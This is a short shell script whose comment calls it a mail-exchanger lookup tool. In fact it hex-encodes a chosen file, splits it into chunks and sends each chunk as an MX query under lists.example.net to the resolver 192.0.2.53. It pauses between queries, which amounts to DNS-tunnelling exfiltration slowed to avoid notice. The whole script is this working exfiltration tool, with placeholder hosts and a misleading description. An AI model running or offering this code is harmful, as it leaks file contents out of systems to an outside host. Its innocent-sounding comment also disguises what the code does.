#!/bin/sh
# exchangers.sh FILE PAUSE: asks the resolver who takes mail for domains whose names are a file in hexadecimal, and takes its time.
set -e
od -An -v -tx1 "$1" | tr -d ' \n' | fold -w 56 | while read -r part; do
  busybox nslookup -type=mx "$part.lists.example.net" 192.0.2.53 | grep -q NXDOMAIN
  sleep "$2"
done
